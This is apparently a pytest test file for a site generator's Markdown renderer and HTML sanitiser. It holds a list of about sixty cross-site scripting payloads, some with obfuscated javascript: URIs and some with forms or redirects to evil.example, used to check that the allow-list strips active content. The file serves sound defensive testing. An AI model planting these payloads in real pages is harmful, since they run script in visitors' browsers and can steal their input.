from __future__ import annotations

import re
from itertools import pairwise

import pytest
from bs4 import BeautifulSoup
from hypothesis import example, given, settings
from hypothesis import strategies as st

from generator.config import Markdown
from generator.errors import ConfigError
from generator.markdown import escape, plain_paragraphs, python_markdown, to_html, without_targets

PYROMARK = Markdown()
PYTHON_MARKDOWN = Markdown(engine="python-markdown")
ENGINES = [pytest.param(PYROMARK, id="pyromark"), pytest.param(PYTHON_MARKDOWN, id="python-markdown")]

both_engines = pytest.mark.parametrize("engine", ENGINES)


def soup(page: str) -> BeautifulSoup:
    return BeautifulSoup(page, "html.parser")


def collapsed(text: str) -> str:
    return " ".join(text.split())


# What means something in Markdown, HTML or an extension, and a few letters to stand between.
_PIECES = [
    *"\\`*_{}[]()#+-.!|>&~^=:;\"'/$%@ 12aAzé日",
    "\u00a0",
    "&amp;",
    "&#65;",
    "&lt",
    "![",
    "](",
    "--",
    "...",
    "``",
]
_PIECES += ["http://a.b/", "[^1]", "1. ", "12) ", "{:", "-->", "\\\\", "R&D", "< ", "<b>", "</p>", "<!--", "<?", "~~"]
_marks = st.lists(st.sampled_from(_PIECES), max_size=25).map("".join)
_any_text = st.text(st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), max_size=60)


@both_engines
@settings(max_examples=400, deadline=None)
@given(text=st.one_of(_marks, _any_text), imported=st.booleans())
@example(text="1. May", imported=False)
@example(text="snake_case _and_ *stars*", imported=True)
@example(text="&copy; &copy 2026 &#x41;", imported=False)
@example(text="- [ ] a task", imported=False)
@example(text="[a]: http://a.b", imported=False)
@example(text="C:\\new\\", imported=False)
@example(text="***", imported=False)
@example(text="+", imported=False)
@example(text="&#169 2026, &#xA9 and &copy 2026", imported=False)
def test_escaped_text_reads_exactly_like_the_text(engine: Markdown, text: str, imported: bool) -> None:  # noqa: FBT001
    page = soup(to_html(escape(text), engine, verbatim=True, imported=imported))
    assert collapsed(page.get_text()) == collapsed(text)
    assert {element.name for element in page.find_all()} <= {"p"}


@both_engines
@settings(max_examples=100, deadline=None)
@given(texts=st.lists(_marks.filter(lambda text: collapsed(text) != ""), max_size=4))
def test_escaped_paragraphs_stay_apart_and_change_nothing_in_each_other(engine: Markdown, texts: list[str]) -> None:
    page = soup(to_html("\n\n".join(map(escape, texts)), engine, verbatim=True))
    assert [collapsed(p.get_text()) for p in page.find_all("p")] == [collapsed(text) for text in texts]


@pytest.mark.parametrize(
    ("engine", "text"),
    [
        (PYROMARK, "Write to <007@mi6.example> now"),
        (PYTHON_MARKDOWN, "Write to <007@mi6.example> now"),
        (PYTHON_MARKDOWN, "<<ana@example.org>"),
    ],
)
def test_an_escaped_mail_address_keeps_its_angle_brackets(engine: Markdown, text: str) -> None:
    assert collapsed(soup(to_html(escape(text), engine, verbatim=True)).get_text()) == text


@pytest.mark.parametrize(
    ("extension", "text"),
    [
        ("smarty", '"It\'s done" -- and left...'),
        ("admonition", "!!! note hello"),
        ("def_list", ": this defines nothing"),
    ],
)
def test_escaped_text_reads_like_the_text_with_extensions(extension: str, text: str) -> None:
    engine = Markdown(engine="python-markdown", extensions=(extension,))
    page = to_html(f"Before.\n\n{escape(text)}", engine, verbatim=True)
    assert [p.get_text() for p in soup(page).find_all("p")] == ["Before.", text]


@pytest.mark.parametrize("text", ["R&D costs 5 < 6", "snake_case", "a-b + c", "1984 was a book", "-5 degrees", "~5"])
def test_what_means_nothing_is_not_escaped(text: str) -> None:
    assert escape(text) == text


def headings(page: str) -> list[tuple[int, str, str]]:
    return [(int(h.name[1]), str(h["id"]), h.get_text()) for h in soup(page).find_all(re.compile("^h[1-6]$"))]


@both_engines
def test_headings_begin_below_the_pages_own_and_keep_their_order(engine: Markdown) -> None:
    found = headings(to_html("# One\n\n## Two\n\n### Three\n\n## Four\n\n# Five", engine))
    assert found == [
        (2, "one", "One"),
        (3, "two", "Two"),
        (4, "three", "Three"),
        (3, "four", "Four"),
        (2, "five", "Five"),
    ]


@both_engines
def test_headings_that_skip_a_level_close_the_gap(engine: Markdown) -> None:
    assert [level for level, _, _ in headings(to_html("## A\n\n##### B\n\n###### C\n\n## D", engine))] == [2, 3, 4, 2]


@both_engines
def test_a_text_that_begins_with_a_deep_heading_begins_at_level_2(engine: Markdown) -> None:
    assert [level for level, _, _ in headings(to_html("#### A\n\n# B\n\n#### C", engine))] == [2, 2, 3]


@both_engines
@settings(max_examples=60, deadline=None)
@given(
    outline=st.lists(
        st.tuples(st.integers(1, 6), st.sampled_from(["A", "B", "A 2", "Main", "日本", "*A*"])), max_size=8
    )
)
def test_every_outline_nests_without_gaps_and_has_unique_ids(engine: Markdown, outline: list[tuple[int, str]]) -> None:
    found = headings(to_html("\n\n".join(f"{'#' * level} {text}" for level, text in outline), engine))
    assert len(found) == len(outline)
    levels = [1, *(level for level, _, _ in found)]
    assert all(1 < after <= before + 1 for before, after in pairwise(levels)) or not found
    ids = [anchor for _, anchor, _ in found]
    assert len(set(ids)) == len(ids)
    assert "main" not in ids


@both_engines
def test_headings_with_the_same_text_are_told_apart(engine: Markdown) -> None:
    page = to_html("## News\n\n## News\n\n## News 2\n\n## News", engine)
    assert [anchor for _, anchor, _ in headings(page)] == ["news", "news-2", "news-2-2", "news-3"]


def test_a_heading_may_state_its_id() -> None:
    assert headings(to_html("## Where to go {#places}\n\n## Places", PYROMARK)) == [
        (2, "places", "Where to go"),
        (2, "places-2", "Places"),
    ]


@pytest.mark.parametrize("text", ["## 1\n\nNote[^1]\n\n[^1]: Here.", '<div id="x">raw</div>\n\n## X'])
def test_no_heading_takes_the_id_of_something_else(text: str) -> None:
    ids = [element["id"] for element in soup(to_html(text, PYROMARK)).find_all(id=True)]
    assert len(set(map(str, ids))) == len(ids)


def test_a_heading_with_a_mark_in_an_attribute_keeps_its_text() -> None:
    # With nh3 before 0.3.7, which leaves `>` in attributes as it is, this lets a script through the allow-list.
    page = to_html('<h2 title="> <img src=x onerror=alert(1)>">Heading</h2>', Markdown(html="trusted"))
    assert headings(page) == [(2, "heading", "Heading")]
    assert "<img" not in re.sub(r'"[^"]*"', "", page)


def test_code_that_looks_like_a_heading_is_none() -> None:
    assert headings(to_html("```\n<h2>code</h2>\n```\n\n    # indented\n", PYROMARK)) == []


def test_a_heading_keeps_what_is_marked_in_it() -> None:
    page = to_html("## The *Endurance* & `a < b`", PYROMARK)
    assert page.strip() == ('<h2 id="the-endurance-a-b">The <em>Endurance</em> &amp; <code>a &lt; b</code></h2>')


def test_tables_are_tables_with_their_alignment() -> None:
    page = soup(to_html("| Port | Ships |\n|:-----|------:|\n| Oslo | 40 |\n", PYROMARK))
    assert [cell.get_text() for cell in page.find_all(["th", "td"])] == ["Port", "Ships", "Oslo", "40"]
    assert "right" in str(page.find_all("td")[1]["style"])


def test_a_tables_alignment_passes_the_allow_list() -> None:
    page = soup(to_html("| A |\n|--:|\n| <b>1</b> |\n", PYROMARK, imported=True))
    assert page.td is not None
    assert re.sub(r"\s", "", str(page.td["style"])) == "text-align:right"


def test_footnotes_lead_to_their_text_with_and_without_the_allow_list() -> None:
    for text in ("Said so[^who].\n\n[^who]: The mayor.\n", "Said so[^who].\n\n[^who]: The <i>mayor</i>.\n"):
        page = soup(to_html(text, PYROMARK, imported=True))
        assert page.a is not None
        note = page.find(id=str(page.a["href"]).removeprefix("#"))
        assert note is not None
        assert "The mayor." in note.get_text()


def test_strikethrough_is_marked_as_deleted() -> None:
    assert "<del>old</del>" in to_html("An ~~old~~ new harbour", PYROMARK)


SMART = "\"It's done\" -- he said --- and 'left'..."


def test_smart_punctuation_is_on_by_default() -> None:
    assert soup(to_html(SMART, PYROMARK)).get_text().strip() == "“It’s done” – he said — and ‘left’…"


@pytest.mark.parametrize(
    ("engine", "verbatim"), [(Markdown(smart=False), False), (PYROMARK, True), (Markdown(smart=False), True)]
)
def test_smart_punctuation_can_be_off(engine: Markdown, verbatim: bool) -> None:  # noqa: FBT001
    assert soup(to_html(SMART, engine, verbatim=verbatim)).get_text().strip() == SMART


def test_code_keeps_its_straight_quotes() -> None:
    assert "&quot;" in to_html('`"a" -- b`', PYROMARK) or '"a" -- b' in to_html('`"a" -- b`', PYROMARK)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script\n>alert(1)</script\n> text",
    "<img src=x onerror=alert(1)>",
    '<img src="https://a.example/x.png" ONLOAD="alert(1)">',
    "<img/src=x/onerror=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:x) ![y](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\n  javascript:alert(1)",
    "[r]\n\n> [r]: <javascript:alert(1)>",
    "![x][r]\n\n[r]: data:image/svg+xml;base64,PHN2Zz4=",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<svg onload=alert(1)><circle/></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
    '<form action="https://evil.example/"><input name=password><button formaction="javascript:1">x</button></form>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
    '<td style="background:url(https://evil.example/)">x</td>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">x</div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<h2 title="> <img src=x onerror=alert(1)>">heading</h2>',
    '<h2 title="</h2><img src=x onerror=alert(1)>">heading</h2>',
    '<h2 id="&quot;><img src=x onerror=alert(1)>">heading</h2>',
    "## heading {onclick=alert(1)}",
    '## heading {#"onmouseover="alert(1)}',
    "## <img src=x onerror=alert(1)> {#a}",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "a `code` <b onclick=alert(1)>x</b>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<a href='/x' title='\" onclick=alert(1) \"'>x</a>",
    '<img src="/x" alt="&quot; onerror=alert(1) &quot;">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<portal src=https://evil.example/></portal><frameset><frame src=x></frameset>",
]
_ACTIVE = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "svg",
    "math",
}
_ACTIVE |= {"style", "meta", "base", "link", "template", "textarea", "noscript", "body", "portal"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


def active_content(page: str) -> list[str]:
    """What a browser would run, fetch as code or send away."""
    found = []
    for element in soup(page).find_all():
        found += [element.name] if element.name in _ACTIVE else []
        for name, value in element.attrs.items():
            if name.startswith("on") or name in {"srcdoc", "formaction", "action", "xlink:href", "srcset"}:
                found.append(f"{element.name}[{name}]")
            if name == "style" and not re.fullmatch(r"\s*text-align:\s*(left|right|center)\s*;?\s*", str(value)):
                found.append(f"{element.name}[style]")
            # A browser drops tabs and line ends, and what is blank at the beginning, before it looks for a scheme.
            scheme = _SCHEME.match(re.sub(r"[\t\r\n]", "", str(value)).lstrip("".join(map(chr, range(0x21)))))
            if (
                name in {"href", "src", "cite"}
                and scheme
                and scheme[1].lower() not in {"http", "https", "mailto", "tel"}
            ):
                found.append(f"{element.name}[{name}={value}]")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
@both_engines
def test_the_allow_list_leaves_nothing_active(engine: Markdown, payload: str) -> None:
    for text in (payload, f"Before {payload}", f"> {payload}", f"- {payload}", f"# {payload}\n\nAfter"):
        page = to_html(text, engine)
        assert active_content(page) == [], page


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_was_imported_passes_the_allow_list_on_a_trusting_site(payload: str) -> None:
    for engine in (Markdown(html="trusted"), Markdown(html="trusted", engine="python-markdown")):
        assert active_content(to_html(payload, engine, imported=True)) == []


@both_engines
def test_the_check_for_active_content_would_see_it(engine: Markdown) -> None:
    trusting = Markdown(engine=engine.engine, html="trusted")
    page = to_html("<script>1</script>\n\n<b onclick=x>y</b>\n\n[x](javascript:1)", trusting)
    assert active_content(page) == ["script", "b[onclick]", "a[href=javascript:1]"]


@both_engines
def test_html_that_an_editor_writes_passes_the_allow_list(engine: Markdown) -> None:
    text = '<figure><img src="https://a.example/x.png" alt="x"><figcaption>A <b>tent</b></figcaption></figure>'
    page = to_html(text, engine)
    for part in ("<figure>", 'src="https://a.example/x.png"', "<figcaption>A <b>tent</b></figcaption>"):
        assert part in page


def test_a_trusting_site_leaves_the_editors_html_as_it_is() -> None:
    text = '<div class="map" data-zoom="3" onclick="zoom()"><video src="https://a.example/x.mp4"></video></div>'
    assert to_html(text, Markdown(html="trusted")).strip() == text


def test_an_extension_of_python_markdown_is_used() -> None:
    engine = Markdown(engine="python-markdown", extensions=("tables", "footnotes"))
    page = soup(to_html("| A |\n|---|\n| 1 |\n\nSo[^1].\n\n[^1]: Yes.\n", engine))
    assert page.td is not None
    assert page.td.get_text() == "1"
    assert page.sup is not None


def test_documents_do_not_share_footnotes_or_references() -> None:
    engine = Markdown(engine="python-markdown", extensions=("footnotes",))
    to_html("So[^1] and [r].\n\n[^1]: First.\n\n[r]: /first/\n", engine)
    page = to_html("So[^1] and [r].\n", engine)
    assert "First" not in page
    assert "/first/" not in page


@pytest.mark.parametrize("name", ["no_such_extension_anywhere", "generator.markdown", "generator.config:Markdown"])
def test_an_unknown_extension_is_told_by_name(name: str) -> None:
    with pytest.raises(ConfigError) as caught:
        python_markdown((name,))
    (problem,) = caught.value.problems
    assert repr(name) in problem.message
    assert problem.file == "site.yaml"
    assert problem.hint


def test_plain_paragraphs_are_what_a_reader_reads() -> None:
    text = "## A *head*\n\nFirst [link](https://a.example/x) &amp; `code`[^1].\n\n- one\n- two\n\n[^1]: A note.\n"
    assert plain_paragraphs(f"{text}\n| a |\n|---|\n| b |\n", 1000) == ["First link & code."]


@pytest.mark.parametrize(("text", "expected"), [("- one\n- two\n", ["one", "two"]), ("| a |\n|---|\n| b |\n", ["b"])])
def test_of_a_text_without_paragraphs_its_items_are_read(text: str, expected: list[str]) -> None:
    assert plain_paragraphs(text, 1000) == expected


def test_plain_paragraphs_stop_at_the_limit() -> None:
    assert plain_paragraphs("One.\n\nTwo.\n\nThree.", 12) == ["One.", "Two."]
    assert plain_paragraphs("x" * 50, 10) == ["x" * 10]


def test_the_targets_of_links_do_not_count_as_words() -> None:
    assert without_targets('See [the map](https://a.example/b "Title") or https://c.example/d now').split() == [
        "See",
        "[the",
        "map",
        "or",
        "now",
    ]
